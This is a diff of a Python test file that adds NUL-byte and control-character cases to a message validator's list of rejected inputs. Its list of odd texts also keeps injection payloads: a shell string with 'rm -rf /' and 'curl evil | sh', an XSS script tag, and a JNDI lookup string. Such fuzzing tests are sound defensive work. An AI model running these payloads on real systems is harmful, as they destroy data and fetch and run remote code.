@@ -13,7 +13,7 @@ ODD_TEXT = [
     ("shell", "$(rm -rf /) `reboot` && curl evil | sh"),
     ("HTML", "<script>alert('x')</script><img src=x onerror=alert(1)>"),
     ("templates", "{{7*7}} ${jndi:ldap://x/a} {% raw %} #{1+1}"),
-    ("control characters", "铃\u0007退格\u0008转义\u001b[31m红\u0000空"),
+    ("tabs and line breaks", "第一行\n第二行\r\n\t缩进"),
     ("right-to-left marks", "\u202e\u200f反向\u202c\u2066隔离\u2069"),
     ("emoji", "吵架😡👨‍👩‍👧‍👦🏳️‍🌈"),
     ("CJK extensions", "𠀀𪚥𫝀𬺰𰻝"),
@@ -57,6 +57,10 @@ def bad_messages(valid: dict, number_field: str, time_field: str, text_field: st
         ("naive time", _with(valid, **{time_field: "2026-03-02T09:30:00"})),
         ("time as a number", _with(valid, **{time_field: 1772400000})),
         ("oversized text", _with(valid, **{text_field: planted * 10_000})),
+        # PostgreSQL cannot store NUL: the contract refuses it before any store sees it.
+        ("NUL in the event id", _with(valid, event_id=f"{valid['event_id']}\u0000")),
+        ("NUL in text", _with(valid, **{text_field: "调解\u0000记录"})),
+        ("control characters in text", _with(valid, **{text_field: "铃\u0007退格\u0008转义\u001b[31m红"})),
         ("10,000 parties", _with(valid, parties=[{"role": "complainant", "kind": "person", "name": PLANTED_NAME, "phone": PLANTED_PHONE}] * 10_000)),
         ("duplicate keys with a bad last value", _json(valid)[:-1] + f', "{number_field}": "{planted}"}}'.encode()),
     ]
